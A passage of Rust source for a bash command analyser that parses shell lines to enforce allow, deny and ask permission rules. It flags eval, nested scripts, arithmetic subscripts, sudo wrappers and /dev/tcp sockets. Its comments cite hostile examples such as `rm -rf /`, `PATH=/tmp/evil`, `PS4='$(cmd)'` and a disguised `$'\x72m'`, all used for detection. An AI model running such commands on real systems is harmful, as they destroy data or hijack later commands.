//! Bash command analysis for permission rules: parses a command with a real shell parser
//! (`brush-parser`) and lists every simple command it would run — through `&&`, `||`, `;`, `|`,
//! `&`, newlines, subshells, groups, control structures, function bodies, `$(…)`, backticks and
//! `bash -c '…'` scripts — with wrappers (`timeout`, `env`, `xargs`, …) stripped, plus every
//! redirection target and the working-directory changes (`cd`) that affect relative paths.
//!
//! Anything the analysis cannot see through (eval, process substitution, a computed command name,
//! substitutions hidden in `${…}`) is reported in [`Analysis::opaque`]; a command that does not
//! parse is a [`ParseFailure`]. The evaluator never auto-approves either.

use std::panic::{self, AssertUnwindSafe};
use std::path::{Path, PathBuf};

use brush_parser::ast;
use brush_parser::word::{self, WordPiece, WordPieceWithSource};
use brush_parser::{ParserOptions, SourceInfo};

use super::path::{absolutize, normalize};
use super::wrappers::{self, Wrapper};

/// Longer commands are not analysed (and so never auto-approved): parsing cost must stay bounded.
const MAX_COMMAND_LEN: usize = 64 * 1024;
/// Nesting of `$(…)` / `bash -c` scripts followed before giving up (reported as opaque).
const MAX_NESTING: usize = 8;
/// Bracket nesting above this is refused before parsing, so a hostile command cannot exhaust the
/// parser's stack.
const MAX_BRACKET_DEPTH: usize = 64;

/// A shell word after quote removal.
#[derive(Debug, Clone, Default)]
pub(crate) struct ShellWord {
    /// The value the program receives, when static. Dynamic parts (`$x`, `$(…)`) appear as written.
    pub text: String,
    /// The word as written (quotes included).
    pub raw: String,
    /// Whether part of the value is only known at run time (parameter, command or arithmetic
    /// expansion, brace expansion, `~user`, undecoded `$'…'` escapes).
    pub dynamic: bool,
    /// Whether an unquoted glob character makes the shell expand it into file names.
    pub glob: bool,
    /// Whether it starts with a `~` that expands to the home directory.
    pub tilde: bool,
}

impl ShellWord {
    /// A word with a fixed value (no quoting, nothing dynamic).
    pub fn literal(text: &str) -> ShellWord {
        ShellWord {
            text: text.to_string(),
            raw: text.to_string(),
            ..ShellWord::default()
        }
    }

    /// Whether the word's value is fully known before the command runs.
    pub fn is_static(&self) -> bool {
        !self.dynamic && !self.glob
    }

    /// The value written back in shell syntax: plain when it needs no quoting, else single-quoted.
    /// Keeps word boundaries visible, so `'ls -la; rm x'` (one word) never reads as `ls -la`.
    pub fn requoted(&self) -> String {
        if self.dynamic || self.glob {
            return self.raw.clone();
        }
        let plain = !self.text.is_empty()
            && self.text.chars().all(|c| {
                c.is_ascii_alphanumeric()
                    || "_@%+=:,./-~^{}".contains(c)
                    || (!c.is_ascii() && !c.is_whitespace())
            });
        if plain {
            self.text.clone()
        } else {
            format!("'{}'", self.text.replace('\'', "'\\''"))
        }
    }

    /// The absolute paths this word may name, given the working directories it may be resolved
    /// in. See [`WordPaths`].
    pub fn paths(&self, cwd: &CwdState, home: Option<&Path>) -> WordPaths {
        if self.dynamic || (cwd.unknown && !self.is_absolute()) {
            return WordPaths::unknown();
        }
        let (text, glob_below) = if self.glob {
            // Keep the directories before the first glob segment. Globs never match `.` or `..`
            // or dot-files unless the segment itself starts with `.` (or a class that could be
            // one), so the expansion stays inside that directory and never reaches a dot-name.
            let segments: Vec<&str> = self.text.split('/').collect();
            let Some(first) = segments
                .iter()
                .position(|s| s.contains(['*', '?', '[', '(']))
            else {
                return WordPaths::unknown();
            };
            let risky = segments[first..]
                .iter()
                .any(|s| s.starts_with(['.', '[']) || *s == "..");
            if risky {
                return WordPaths::unknown();
            }
            let dir = segments[..first].join("/");
            (
                if dir.is_empty() && self.text.starts_with('/') {
                    "/".to_string()
                } else if dir.is_empty() {
                    ".".to_string()
                } else {
                    dir
                },
                true,
            )
        } else {
            (self.text.clone(), false)
        };
        let home = if self.tilde { home } else { None };
        if self.tilde && home.is_none() {
            return WordPaths::unknown();
        }
        let paths = if text.starts_with('/') || self.tilde {
            vec![absolutize(&text, Path::new("/"), home)]
        } else {
            cwd.dirs
                .iter()
                .map(|d| absolutize(&text, d, None))
                .collect()
        };
        WordPaths {
            paths,
            unknown: false,
            glob_below,
        }
    }

    fn is_absolute(&self) -> bool {
        self.text.starts_with('/') || self.tilde
    }
}

/// Where a path-like word may point.
#[derive(Debug, Clone)]
pub(crate) struct WordPaths {
    /// Absolute paths (with `..` kept, for symlink resolution); one per possible cwd.
    pub paths: Vec<PathBuf>,
    /// The location cannot be known before the command runs.
    pub unknown: bool,
    /// The paths are directories and the word is a glob naming (non-dot) entries below them.
    pub glob_below: bool,
}

impl WordPaths {
    fn unknown() -> WordPaths {
        WordPaths {
            paths: Vec::new(),
            unknown: true,
            glob_below: false,
        }
    }
}

/// The working directories a command may run in. `cd` only ever adds candidates (it may fail, and
/// branches may or may not run), so every check can consider all of them.
#[derive(Debug, Clone)]
pub(crate) struct CwdState {
    pub dirs: Vec<PathBuf>,
    /// A `cd` to a computed or unknowable place happened: relative paths have no known location.
    pub unknown: bool,
}

/// One simple command the shell would run.
#[derive(Debug, Clone)]
pub(crate) struct SimpleCommand {
    /// The command after wrappers (and safe assignments) are stripped.
    pub argv: Vec<ShellWord>,
    /// Texts allow rules are matched against (re-quoted and as written, without and with the
    /// wrappers). Empty when the command only carries a script that is analysed on its own
    /// (`bash -c '…'`).
    pub allow_texts: Vec<AllowText>,
    /// An unsafe assignment or a deny-only wrapper (`sudo`) kept the allow text from reaching the
    /// inner command; the built-in read-only set does not apply then.
    pub blocked: bool,
    /// Every form deny and ask rules are matched against: the full command, each wrapper layer,
    /// re-quoted, as written and plain-joined, and with a command path reduced to its name.
    pub deny_texts: Vec<String>,
    /// Where relative arguments resolve.
    pub cwd: CwdState,
}

/// One text an allow rule may match for a command.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct AllowText {
    pub text: String,
    /// How much of `text` a rule's fixed (wildcard-free) prefix must cover to approve it: the
    /// wrappers and the name of the program that really runs, or the whole text for a runner
    /// robota does not parse. 0 for a plain command.
    pub cover: usize,
}

impl SimpleCommand {
    /// A short display form for messages and suggestions.
    pub fn display(&self) -> String {
        self.allow_texts
            .first()
            .map(|a| a.text.clone())
            .unwrap_or_else(|| join(&self.argv, ShellWord::requoted))
    }
}

/// A file redirection (`> f`, `>> f`, `&> f`, `< f`, …).
#[derive(Debug, Clone)]
pub(crate) struct Redirect {
    pub target: ShellWord,
    /// Output (creates or changes the file) rather than input.
    pub write: bool,
    pub cwd: CwdState,
}

/// What a command line would do, as far as can be seen before running it.
#[derive(Debug, Clone, Default)]
pub(crate) struct Analysis {
    pub commands: Vec<SimpleCommand>,
    pub redirects: Vec<Redirect>,
    /// Why parts of the command could not be seen into (empty when fully analysed).
    pub opaque: Vec<String>,
    /// `shopt` or `GLOBIGNORE` appears, so globs may match dot-files (`.git`) too.
    pub dotglob_possible: bool,
    /// Network connections the shell itself opens (`< /dev/tcp/host/port`, `> /dev/udp/…`).
    pub network: Vec<String>,
}

/// The command does not parse as shell syntax.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct ParseFailure(pub String);

/// Analyses `command` as bash would run it from `cwd`.
pub(crate) fn analyze(
    command: &str,
    cwd: &Path,
    home: Option<&Path>,
) -> Result<Analysis, ParseFailure> {
    let mut walker = Walker {
        home,
        cwd: CwdState {
            dirs: vec![normalize(cwd)],
            unknown: false,
        },
        out: Analysis::default(),
        depth: 0,
        cdpath_set: false,
    };
    let program = parse(command)?;
    walker.program(&program);
    walker.out.opaque.dedup();
    Ok(walker.out)
}

fn parser_options() -> ParserOptions {
    ParserOptions::default()
}

fn parse(command: &str) -> Result<ast::Program, ParseFailure> {
    if command.len() > MAX_COMMAND_LEN {
        return Err(ParseFailure(format!(
            "the command is longer than {MAX_COMMAND_LEN} bytes"
        )));
    }
    if bracket_depth(command) > MAX_BRACKET_DEPTH {
        return Err(ParseFailure(
            "the command nests brackets too deeply".to_string(),
        ));
    }
    let options = parser_options();
    // The parser is third-party code fed untrusted text; a panic in it must become "cannot
    // analyse" (which asks), never a crashed session.
    let result = panic::catch_unwind(AssertUnwindSafe(|| {
        let tokens = brush_parser::uncached_tokenize_str(command, &options.tokenizer_options())
            .map_err(|e| ParseFailure(e.to_string()))?;
        brush_parser::parse_tokens(&tokens, &options, &SourceInfo::default())
            .map_err(|e| ParseFailure(e.to_string()))
    }));
    result.unwrap_or_else(|_| {
        Err(ParseFailure(
            "the shell parser failed on this command".into(),
        ))
    })
}

/// Maximum nesting of `(`/`{`/`[`, ignoring quoting (an over-estimate is fine: it only refuses).
fn bracket_depth(s: &str) -> usize {
    let (mut depth, mut max) = (0usize, 0usize);
    for c in s.chars() {
        match c {
            '(' | '{' | '[' => {
                depth += 1;
                max = max.max(depth);
            }
            ')' | '}' | ']' => depth = depth.saturating_sub(1),
            _ => {}
        }
    }
    max
}

struct Walker<'a> {
    home: Option<&'a Path>,
    cwd: CwdState,
    out: Analysis,
    depth: usize,
    /// `CDPATH` was assigned: a later `cd name` may go anywhere.
    cdpath_set: bool,
}

impl Walker<'_> {
    fn opaque(&mut self, reason: impl Into<String>) {
        let reason = reason.into();
        if !self.out.opaque.contains(&reason) {
            self.out.opaque.push(reason);
        }
    }

    /// A script nested in the command (`$(…)`, backticks, `bash -c`, `eval`).
    fn nested_script(&mut self, script: &str, what: &str) {
        if self.depth >= MAX_NESTING {
            self.opaque(format!("{what} nested too deeply to follow"));
            return;
        }
        let parsed = parse(script).or_else(|first| {
            // brush-parser hands back the body of `$(…)` with a quoted here-document end line
            // (`'EOF'` where the source said `EOF`); undo that and retry before giving up.
            match repair_heredoc_tags(script) {
                Some(repaired) => parse(&repaired).map_err(|_| first),
                None => Err(first),
            }
        });
        match parsed {
            Ok(program) => {
                self.depth += 1;
                self.program(&program);
                self.depth -= 1;
            }
            Err(ParseFailure(e)) => self.opaque(format!("{what} that cannot be parsed ({e})")),
        }
    }

    fn program(&mut self, program: &ast::Program) {
        for list in &program.complete_commands {
            self.compound_list(list);
        }
    }

    fn compound_list(&mut self, list: &ast::CompoundList) {
        for ast::CompoundListItem(and_or, _separator) in &list.0 {
            self.pipeline(&and_or.first);
            for next in &and_or.additional {
                match next {
                    ast::AndOr::And(p) | ast::AndOr::Or(p) => self.pipeline(p),
                }
            }
        }
    }

    fn pipeline(&mut self, pipeline: &ast::Pipeline) {
        for command in &pipeline.seq {
            self.command(command);
        }
    }

    fn command(&mut self, command: &ast::Command) {
        match command {
            ast::Command::Simple(simple) => self.simple(simple),
            ast::Command::Compound(compound, redirects) => {
                if let Some(list) = redirects {
                    self.redirect_list(list);
                }
                self.compound(compound);
            }
            ast::Command::Function(def) => {
                let ast::FunctionBody(body, redirects) = &def.body;
                if let Some(list) = redirects {
                    self.redirect_list(list);
                }
                // The body runs whenever the function is called; analyse it as if it runs here.
                self.compound(body);
            }
            ast::Command::ExtendedTest(test) => self.extended_test(&test.expr),
        }
    }

    fn compound(&mut self, compound: &ast::CompoundCommand) {
        use ast::CompoundCommand as C;
        match compound {
            C::Arithmetic(a) => self.arithmetic(&a.expr.value),
            C::ArithmeticForClause(f) => {
                for e in [&f.initializer, &f.condition, &f.updater]
                    .into_iter()
                    .flatten()
                {
                    self.arithmetic(&e.value);
                }
                self.compound_list(&f.body.list);
            }
            C::BraceGroup(g) => self.compound_list(&g.list),
            C::Subshell(s) => self.compound_list(&s.list),
            C::ForClause(f) => {
                for w in f.values.iter().flatten() {
                    self.word(&w.value);
                }
                self.compound_list(&f.body.list);
            }
            C::CaseClause(c) => {
                self.word(&c.value.value);
                for item in &c.cases {
                    for p in &item.patterns {
                        self.word(&p.value);
                    }
                    if let Some(list) = &item.cmd {
                        self.compound_list(list);
                    }
                }
            }
            C::IfClause(i) => {
                self.compound_list(&i.condition);
                self.compound_list(&i.then);
                for e in i.elses.iter().flatten() {
                    if let Some(cond) = &e.condition {
                        self.compound_list(cond);
                    }
                    self.compound_list(&e.body);
                }
            }
            C::WhileClause(w) | C::UntilClause(w) => {
                self.compound_list(&w.0);
                self.compound_list(&w.1.list);
            }
        }
    }

    fn extended_test(&mut self, expr: &ast::ExtendedTestExpr) {
        use ast::ExtendedTestExpr as E;
        match expr {
            E::And(a, b) | E::Or(a, b) => {
                self.extended_test(a);
                self.extended_test(b);
            }
            E::Not(a) | E::Parenthesized(a) => self.extended_test(a),
            E::UnaryTest(op, w) => {
                let word = self.word(&w.value);
                if matches!(
                    op,
                    ast::UnaryPredicate::ShellVariableIsSetAndAssigned
                        | ast::UnaryPredicate::ShellVariableIsSetAndNameRef
                ) && !(word.is_static() && subscript_safe(&word.text))
                {
                    self.opaque("`[[ -v … ]]` on a name whose array subscript bash evaluates");
                }
            }
            E::BinaryTest(op, a, b) => {
                let left = self.word(&a.value);
                let right = self.word(&b.value);
                use ast::BinaryPredicate as B;
                let arithmetic = matches!(
                    op,
                    B::ArithmeticEqualTo
                        | B::ArithmeticNotEqualTo
                        | B::ArithmeticLessThan
                        | B::ArithmeticLessThanOrEqualTo
                        | B::ArithmeticGreaterThan
                        | B::ArithmeticGreaterThanOrEqualTo
                );
                if arithmetic
                    && ![&left, &right]
                        .iter()
                        .all(|w| w.is_static() && literal_arithmetic(&w.text))
                {
                    self.opaque(
                        "a `[[ … -eq … ]]` comparison, whose operands bash evaluates as \
                         arithmetic",
                    );
                }
            }
        }
    }

    fn arithmetic(&mut self, expr: &str) {
        // Arithmetic evaluates the variables it names, recursively, and an array subscript met
        // on the way runs its `$(…)` — even when the text sits in a variable
        // (`x='a[$(cmd)]'; echo $(( x ))`). Only plain numbers and operators are followed.
        if !literal_arithmetic(expr) {
            self.opaque(format!(
                "the arithmetic `{}`, which names variables bash evaluates (a hidden array \
                 subscript can run commands)",
                expr.trim()
            ));
        }
    }

    fn redirect_list(&mut self, list: &ast::RedirectList) {
        for r in &list.0 {
            self.redirect(r);
        }
    }

    fn redirect(&mut self, redirect: &ast::IoRedirect) {
        use ast::IoFileRedirectKind as K;
        use ast::IoFileRedirectTarget as T;
        match redirect {
            ast::IoRedirect::File(_fd, kind, target) => match target {
                T::Filename(w) => {
                    let target = self.word(&w.value);
                    let write = !matches!(kind, K::Read | K::DuplicateInput);
                    self.push_redirect(target, write);
                }
                T::Fd(_) => {}
                T::ProcessSubstitution(_, sub) => {
                    self.opaque("process substitution");
                    self.compound_list(&sub.list);
                }
                T::Duplicate(w) => {
                    let target = self.word(&w.value);
                    let fd_like = target.is_static()
                        && (target.text == "-"
                            || target
                                .text
                                .trim_end_matches('-')
                                .chars()
                                .all(|c| c.is_ascii_digit())
                                && !target.text.is_empty());
                    if !fd_like {
                        // `>&file` (no fd number) writes stdout and stderr to `file`.
                        let write = matches!(kind, K::DuplicateOutput);
                        self.push_redirect(target, write);
                    }
                }
            },
            ast::IoRedirect::HereDocument(_fd, doc) => {
                if doc.requires_expansion && !safe_heredoc(&doc.doc.value) {
                    self.opaque(
                        "a here-document with substitutions or arithmetic (quote its tag, \
                         `<<'EOF'`, to keep it literal)",
                    );
                }
            }
            ast::IoRedirect::HereString(_fd, w) => {
                self.word(&w.value);
            }
            ast::IoRedirect::OutputAndError(w, _append) => {
                let target = self.word(&w.value);
                self.push_redirect(target, true);
            }
        }
    }

    fn push_redirect(&mut self, target: ShellWord, write: bool) {
        const DEVICES: &[&str] = &["/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty"];
        // bash opens a socket itself for these names.
        if target.text.starts_with("/dev/tcp/") || target.text.starts_with("/dev/udp/") {
            self.out.network.push(target.text.clone());
            return;
        }
        if target.is_static()
            && (DEVICES.contains(&target.text.as_str()) || target.text.starts_with("/dev/fd/"))
        {
            return;
        }
        self.out.redirects.push(Redirect {
            target,
            write,
            cwd: self.cwd.clone(),
        });
    }

    /// Quote removal and expansion analysis of one word; nested command substitutions are
    /// analysed as scripts of their own.
    fn word(&mut self, raw: &str) -> ShellWord {
        let mut out = ShellWord {
            raw: raw.to_string(),
            ..ShellWord::default()
        };
        let parsed = panic::catch_unwind(AssertUnwindSafe(|| {
            word::parse(raw, &parser_options()).map_err(|e| e.to_string())
        }))
        .unwrap_or_else(|_| Err("the word parser failed".to_string()));
        match parsed {
            Ok(pieces) => self.pieces(raw, &pieces, false, &mut out, true),
            Err(e) => {
                out.text = raw.to_string();
                out.dynamic = true;
                self.opaque(format!("a word that cannot be parsed ({e})"));
            }
        }
        out
    }

    fn pieces(
        &mut self,
        raw: &str,
        pieces: &[WordPieceWithSource],
        quoted: bool,
        out: &mut ShellWord,
        at_start: bool,
    ) {
        for (i, p) in pieces.iter().enumerate() {
            let slice = raw.get(p.start_index..p.end_index).unwrap_or("");
            match &p.piece {
                WordPiece::Text(s) => {
                    if !quoted {
                        // A `[` opens a bracket expression when a `]` follows anywhere later in
                        // the word (quoted parts included).
                        let rest = raw.get(p.start_index..).unwrap_or("");
                        if has_glob(s) || has_glob(rest) && s.contains('[') || has_extglob(s) {
                            out.glob = true;
                        }
                        if has_brace_expansion(s) {
                            out.dynamic = true;
                        }
                    }
                    out.text.push_str(s);
                }
                WordPiece::SingleQuotedText(s) => out.text.push_str(s),
                WordPiece::AnsiCQuotedText(s) => {
                    // `$'\x72m'` is `rm`: escapes are not decoded here, so treat them as unknown.
                    if s.contains('\\') {
                        out.dynamic = true;
                    }
                    out.text.push_str(s);
                }
                WordPiece::DoubleQuotedSequence(inner)
                | WordPiece::GettextDoubleQuotedSequence(inner) => {
                    self.pieces(raw, inner, true, out, false);
                }
                WordPiece::TildePrefix(user) => {
                    if user.is_empty() && at_start && i == 0 && !quoted {
                        out.tilde = true;
                    } else {
                        out.dynamic = true;
                    }
                    out.text.push('~');
                    out.text.push_str(user);
                }
                WordPiece::ParameterExpansion(_)
                    if out.text.is_empty() && matches!(slice, "$HOME" | "${HOME}") =>
                {
                    // `$HOME/…` is as well known as `~/…`; treating it alike keeps
                    // `echo x >> "$HOME/.bashrc"` recognisable.
                    out.tilde = true;
                    out.text.push('~');
                }
                WordPiece::ParameterExpansion(_) => {
                    out.dynamic = true;
                    out.text.push_str(slice);
                    if !safe_parameter(slice) {
                        self.opaque(format!(
                            "the expansion `{slice}` (an index, offset or indirection bash \
                             evaluates as arithmetic, or a nested substitution)"
                        ));
                    }
                }
                WordPiece::CommandSubstitution(script) => {
                    out.dynamic = true;
                    out.text.push_str(slice);
                    self.nested_script(script, "a `$(…)` command substitution");
                }
                WordPiece::BackquotedCommandSubstitution(script) => {
                    out.dynamic = true;
                    out.text.push_str(slice);
                    let script = unescape_backquoted(script);
                    self.nested_script(&script, "a backquoted command substitution");
                }
                WordPiece::EscapeSequence(s) => {
                    let escaped = s.strip_prefix('\\').unwrap_or(s);
                    if escaped != "\n" {
                        if quoted && !matches!(escaped, "$" | "`" | "\"" | "\\") {
                            // Inside double quotes other backslashes stay.
                            out.text.push('\\');
                        }
                        out.text.push_str(escaped);
                    }
                }
                WordPiece::ArithmeticExpression(e) => {
                    out.dynamic = true;
                    out.text.push_str(slice);
                    self.arithmetic(&e.value);
                }
            }
        }
    }

    fn simple(&mut self, simple: &ast::SimpleCommand) {
        use ast::CommandPrefixOrSuffixItem as Item;
        let mut assignments: Vec<(String, ShellWord)> = Vec::new();
        let mut words: Vec<ShellWord> = Vec::new();
        let mut redirects: Vec<&ast::IoRedirect> = Vec::new();
        let prefix = simple.prefix.iter().flat_map(|p| p.0.iter());
        for item in prefix {
            match item {
                Item::IoRedirect(r) => redirects.push(r),
                Item::AssignmentWord(assignment, w) => {
                    let value = match &assignment.value {
                        ast::AssignmentValue::Scalar(v) => self.word(&v.value),
                        ast::AssignmentValue::Array(items) => {
                            for (key, value) in items {
                                if let Some(k) = key {
                                    self.word(&k.value);
                                }
                                self.word(&value.value);
                            }
                            ShellWord {
                                dynamic: true,
                                ..ShellWord::default()
                            }
                        }
                    };
                    let name = match &assignment.name {
                        ast::AssignmentName::VariableName(n) => n.clone(),
                        ast::AssignmentName::ArrayElementName(n, index) => {
                            // The subscript of an indexed array is arithmetic: a variable in it
                            // is evaluated, and `$(…)` found on the way runs.
                            if !literal_arithmetic(index) {
                                self.opaque(format!(
                                    "the array subscript `{n}[{index}]`, which bash evaluates as \
                                     arithmetic"
                                ));
                            }
                            format!("{n}[]")
                        }
                    };
                    let mut shown = value;
                    shown.raw = w.value.clone();
                    assignments.push((name, shown));
                }
                Item::Word(w) => {
                    let word = self.word(&w.value);
                    words.push(word);
                }
                Item::ProcessSubstitution(_, sub) => {
                    self.opaque("process substitution");
                    self.compound_list(&sub.list);
                }
            }
        }
        if let Some(name) = &simple.word_or_name {
            let word = self.word(&name.value);
            words.push(word);
        }
        for item in simple.suffix.iter().flat_map(|s| s.0.iter()) {
            match item {
                Item::IoRedirect(r) => redirects.push(r),
                Item::Word(w) | Item::AssignmentWord(_, w) => {
                    let word = self.word(&w.value);
                    words.push(word);
                }
                Item::ProcessSubstitution(kind, sub) => {
                    self.opaque("process substitution");
                    self.compound_list(&sub.list);
                    let marker = match kind {
                        ast::ProcessSubstitutionKind::Read => "<(…)",
                        ast::ProcessSubstitutionKind::Write => ">(…)",
                    };
                    words.push(ShellWord {
                        text: marker.to_string(),
                        raw: marker.to_string(),
                        dynamic: true,
                        ..ShellWord::default()
                    });
                }
            }
        }
        for r in redirects {
            self.redirect(r);
        }
        if assignments.iter().any(|(n, _)| n == "GLOBIGNORE") {
            self.out.dotglob_possible = true;
        }
        if assignments.iter().any(|(n, _)| n == "CDPATH") {
            self.cdpath_set = true;
        }
        if let Some((name, _)) = assignments
            .iter()
            .find(|(n, _)| CODE_VARIABLES.contains(&n.as_str()))
        {
            // `PS4='$(cmd)'; set -x` runs cmd on the next command.
            self.opaque(format!(
                "an assignment to `{name}`, whose value bash runs as code later"
            ));
        }
        if words.is_empty() {
            // Bare assignments (`X=1`) run nothing, but an unsafe one (`PATH=/tmp/evil`) changes
            // what later commands run, so it must be approved like a command.
            for (name, value) in &assignments {
                if !is_safe_bare_assignment(name, value) {
                    self.out.commands.push(SimpleCommand {
                        argv: vec![ShellWord {
                            text: value.raw.clone(),
                            raw: value.raw.clone(),
                            dynamic: true,
                            ..ShellWord::default()
                        }],
                        allow_texts: vec![AllowText {
                            text: value.raw.clone(),
                            cover: value.raw.len(),
                        }],
                        blocked: true,
                        deny_texts: vec![value.raw.clone()],
                        cwd: self.cwd.clone(),
                    });
                }
            }
            return;
        }
        self.command_words(&assignments, words);
    }

    /// Builds the [`SimpleCommand`] for a word list (and leading assignments), following wrappers
    /// and nested scripts.
    fn command_words(&mut self, assignments: &[(String, ShellWord)], words: Vec<ShellWord>) {
        // Assignments that could change what runs (`PATH=…`, `LD_PRELOAD=…`), from the command's
        // prefix or an `env` wrapper, stay in front of the inner command in the allow text, so
        // only a rule naming them matches.
        let mut kept_assignments: Vec<String> = if assignments
            .iter()
            .all(|(name, value)| is_safe_assignment(name, value))
        {
            Vec::new()
        } else {
            assignments.iter().map(|(_, v)| v.raw.clone()).collect()
        };
        // Where a wrapper that only deny rules see through (`sudo`) starts.
        let mut deny_only_at: Option<usize> = None;
        let mut starts = vec![0usize];
        let mut extra_arguments = false;
        let mut chdir: Option<ShellWord> = None;
        while let Some(&start) = starts.last() {
            match wrappers::strip_wrapper(&words[start..]) {
                Wrapper::None => break,
                Wrapper::Opaque(reason, script) => {
                    self.opaque(reason.clone());
                    if let Some(script) = script {
                        self.nested_script(&script, &reason);
                    }
                    break;
                }
                Wrapper::Stripped(stripped) => {
                    if stripped.deny_only && deny_only_at.is_none() {
                        deny_only_at = Some(start);
                    }
                    if deny_only_at.is_none() {
                        kept_assignments.extend(stripped.unsafe_assignments);
                    }
                    extra_arguments |= stripped.extra_arguments;
                    if stripped.chdir.is_some() {
                        chdir = stripped.chdir;
                    }
                    for w in stripped.writes {
                        self.push_redirect(w, true);
                    }
                    starts.push(start + stripped.skip);
                }
            }
        }
        let inner_start = starts.last().copied().unwrap_or(0);
        let mut argv: Vec<ShellWord> = words[inner_start..].to_vec();
        if extra_arguments {
            // `xargs` appends words read at run time.
            argv.push(ShellWord {
                text: "…".into(),
                raw: "…".into(),
                dynamic: true,
                ..ShellWord::default()
            });
        }

        let assignment_raw: Vec<String> = assignments.iter().map(|(_, v)| v.raw.clone()).collect();
        let mut deny_texts = Vec::new();
        let mut add_deny = |text: String| {
            if !text.is_empty() && !deny_texts.contains(&text) {
                deny_texts.push(text);
            }
        };
        let with_assignments = |body: String| {
            if assignment_raw.is_empty() {
                body
            } else {
                format!("{} {body}", assignment_raw.join(" "))
            }
        };
        add_deny(with_assignments(join(&words, |w| w.text.clone())));
        add_deny(with_assignments(join(&words, |w| w.raw.clone())));
        let inner_base = words
            .get(inner_start)
            .filter(|w| w.is_static())
            .map(|w| w.text.rsplit('/').next().unwrap_or(&w.text));
        let runner = inner_base.is_some_and(|n| wrappers::RUNNERS.contains(&n));
        // `npx prettier …`: the package is the program that runs; a rule has to name it.
        let package_end = inner_base
            .filter(|n| wrappers::PACKAGE_RUNNERS.contains(n))
            .and_then(|_| {
                argv.iter()
                    .skip(1)
                    .position(|w| !(w.is_static() && w.text.starts_with('-')))
                    .map(|i| i + 2)
            });
        let runner = runner
            || (package_end.is_none()
                && inner_base.is_some_and(|n| wrappers::PACKAGE_RUNNERS.contains(&n)));
        let mut layers = starts.clone();
        if runner || package_end.is_some() {
            // A runner robota does not parse: the command it runs may start at any later word.
            layers.extend(inner_start + 1..words.len());
        }
        for &start in &layers {
            let layer = &words[start..];
            add_deny(join(layer, |w| w.text.clone()));
            add_deny(join(layer, ShellWord::requoted));
            add_deny(join(layer, |w| w.raw.clone()));
            // `/bin/rm -rf /` and `./rm` are still `rm` to a deny rule.
            if let Some(first) = layer.first() {
                if let Some((_, base)) = first.text.rsplit_once('/') {
                    if !base.is_empty() {
                        let rest = join(&layer[1..], |w| w.text.clone());
                        add_deny(if rest.is_empty() {
                            base.to_string()
                        } else {
                            format!("{base} {rest}")
                        });
                    }
                }
            }
        }

        let blocked = deny_only_at.is_some() || !kept_assignments.is_empty();
        let allow_prefix = kept_assignments.join(" ");
        let glue = |body: String| {
            if allow_prefix.is_empty() {
                body
            } else {
                format!("{allow_prefix} {body}")
            }
        };
        // An allow rule must name the program that really runs: for a wrapped command, the
        // rule's fixed prefix has to reach past the wrapper to the inner program's name (so
        // `Bash(timeout:*)` or `Bash(sudo:*)` approve nothing by themselves); for a runner
        // robota does not parse, it has to cover the whole command.
        let mut allow_texts: Vec<AllowText> = Vec::new();
        let mut add_allow = |text: String, cover: usize| {
            if !allow_texts.iter().any(|a| a.text == text) {
                allow_texts.push(AllowText { text, cover });
            }
        };
        for render in [
            ShellWord::requoted as fn(&ShellWord) -> String,
            |w: &ShellWord| w.raw.clone(),
        ] {
            let inner = join(&argv, render);
            let inner_name_len = match package_end {
                Some(end) => join(&argv[..end.min(argv.len())], render).len(),
                None => argv.first().map(|w| render(w).len()).unwrap_or(0),
            };
            if deny_only_at.is_none() {
                let text = glue(inner.clone());
                let cover = if runner {
                    text.len()
                } else if allow_prefix.is_empty() && package_end.is_none() {
                    0
                } else if allow_prefix.is_empty() {
                    inner_name_len
                } else {
                    allow_prefix.len() + 1 + inner_name_len
                };
                add_allow(text, cover);
            }
            if inner_start > 0 {
                // The whole command, wrappers included, as a rule may spell it out.
                let outer_start = deny_only_at.unwrap_or(0);
                let wrapper_part = join(&words[outer_start..inner_start], render);
                let text = glue(format!("{wrapper_part} {inner}"));
                let cover = if runner {
                    text.len()
                } else {
                    text.len() - inner.len() + inner_name_len
                };
                add_allow(text, cover);
            }
        }

        let name = argv.first();
        if let Some(first) = name {
            if !first.is_static() {
                self.opaque(format!(
                    "the command name `{}` is only known when it runs",
                    first.raw
                ));
            }
        }
        let name = name.filter(|w| w.is_static()).map(|w| w.text.clone());
        let base_name = name
            .as_deref()
            .map(|n| n.rsplit('/').next().unwrap_or(n).to_string());

        // Scripts handed to a shell or to eval are commands of their own.
        let mut transparent = false;
        match base_name.as_deref() {
            Some("bash" | "sh" | "zsh" | "dash" | "ksh" | "mksh" | "ash" | "yash") => {
                match shell_script_arg(&argv[1..]) {
                    ShellScript::None => {}
                    ShellScript::Static(script) => {
                        self.nested_script(&script, "a `-c` script");
                        transparent = !blocked && !extra_arguments;
                    }
                    ShellScript::Dynamic => {
                        self.opaque("a `-c` script that is computed when it runs")
                    }
                }
            }
            Some("eval") => {
                self.opaque("`eval`");
                if argv[1..].iter().all(ShellWord::is_static) {
                    let script = join(&argv[1..], |w| w.text.clone());
                    self.nested_script(&script, "an `eval` script");
                }
            }
            // These run a string as a shell script later or elsewhere; like eval, the script is
            // analysed (so deny rules see it) but never approved automatically.
            Some("trap") => {
                self.opaque("a `trap` handler");
                if let Some(script) = argv
                    .get(1)
                    .filter(|w| w.is_static() && !w.text.starts_with('-'))
                {
                    self.nested_script(&script.text.clone(), "a `trap` handler");
                }
            }
            Some("watch") => {
                self.opaque("`watch`");
                let args: Vec<&ShellWord> = argv[1..]
                    .iter()
                    .skip_while(|w| w.is_static() && w.text.starts_with('-'))
                    .collect();
                if !args.is_empty() && args.iter().all(|w| w.is_static()) {
                    let script = args
                        .iter()
                        .map(|w| w.text.as_str())
                        .collect::<Vec<_>>()
                        .join(" ");
                    self.nested_script(&script, "a `watch` command");
                }
            }
            Some("su") => {
                if let Some(pos) = argv
                    .iter()
                    .position(|w| w.text == "-c" || w.text == "--command")
                {
                    self.opaque("`su -c`");
                    if let Some(script) = argv.get(pos + 1).filter(|w| w.is_static()) {
                        self.nested_script(&script.text.clone(), "an `su -c` script");
                    }
                }
            }
            Some("find") => {
                for payload in find_exec_payloads(&argv) {
                    self.command_words(&[], payload);
                }
                for pair in argv.windows(2) {
                    if matches!(
                        pair[0].text.as_str(),
                        "-fprint" | "-fprint0" | "-fprintf" | "-fls"
                    ) {
                        self.push_redirect(pair[1].clone(), true);
                    }
                }
                if argv.iter().any(|w| w.text == "-delete") {
